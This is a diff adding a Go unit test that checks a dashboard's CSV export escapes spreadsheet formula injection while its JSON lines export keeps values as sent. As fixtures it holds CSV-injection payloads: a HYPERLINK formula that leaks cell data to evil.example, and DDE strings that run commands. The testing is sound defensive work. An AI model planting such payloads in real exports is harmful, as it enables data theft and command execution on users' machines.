@@ -227,6 +227,78 @@ func TestExportFormats(t *testing.T) {
 	}
 }
 
+// TestExportCSVFormulas is the attacker's side of CSV injection: a device
+// reports text values a spreadsheet would run as formulas (a HYPERLINK
+// that leaks the sheet, a DDE command); the CSV export writes each with a
+// leading ' so a spreadsheet shows it as text, the rest of it as sent.
+// Numbers stay numbers, negative ones included, and the JSON lines keep
+// every value as sent.
+func TestExportCSVFormulas(t *testing.T) {
+	e, db := dashEnv(t)
+	t0 := time.Now().Truncate(time.Second).Add(-time.Hour)
+	attacks := []string{
+		`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
+		`+cmd|' /C calc'!A0`,
+		`-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`,
+		"\t=1+1",
+		"\r=1+1",
+		"-Inf",
+	}
+	plain := []string{"-3.5", "+12", "1e3", "Eco", "a=b"}
+	var props []tsdb.PropertyValue
+	for i, v := range append(append([]string(nil), attacks...), plain...) {
+		props = append(props, tsdb.PropertyValue{Time: t0.Add(time.Duration(i) * time.Second), ProductID: "dp", DeviceID: "dd",
+			Property: "mode", ValueType: "string", Str: v})
+	}
+	props = append(props, tsdb.PropertyValue{Time: t0, ProductID: "dp", DeviceID: "dd", Property: "temp", ValueType: "number", Num: -3.5})
+	if err := db.Insert(context.Background(), nil, props); err != nil {
+		t.Fatal(err)
+	}
+	history := map[string]any{"dashboard": "device", "object": "dp", "measurement": "properties", "dimension": "history",
+		"params": map[string]any{"deviceId": "dd", "properties": []string{"mode", "temp"}, "history": 100}}
+	got, _ := e.exportText("?format=csv", "", history)
+	records, err := csv.NewReader(strings.NewReader(got)).ReadAll()
+	if err != nil {
+		t.Fatalf("%v:\n%s", err, got)
+	}
+	cells := map[string]string{} // value as sent -> cell
+	for _, r := range records[1:] {
+		if r[3] == "temp" {
+			if r[5] != "-3.5" {
+				t.Errorf("number -3.5 written %q", r[5])
+			}
+			continue
+		}
+		sent := strings.TrimPrefix(r[5], "'")
+		cells[sent] = r[5]
+	}
+	for _, a := range attacks {
+		if c, ok := cells[a]; !ok || c != "'"+a {
+			t.Errorf("%q written %q (found %v), want it after a '", a, c, ok)
+		}
+	}
+	for _, v := range plain {
+		if c := cells[v]; c != v {
+			t.Errorf("%q written %q", v, c)
+		}
+	}
+	got, _ = e.exportText("?format=ndjson", "", history)
+	values := map[any]bool{}
+	for _, l := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
+		var row struct{ Value any }
+		if err := json.Unmarshal([]byte(l), &row); err != nil {
+			t.Fatal(err)
+		}
+		values[row.Value] = true
+	}
+	for _, a := range attacks {
+		if !values[a] {
+			t.Errorf("JSON lines: %q not as sent", a)
+		}
+	}
+}
+
 // TestExportBadInput: every refusal is the envelope, before any row.
 func TestExportBadInput(t *testing.T) {
 	e, _ := dashEnv(t)
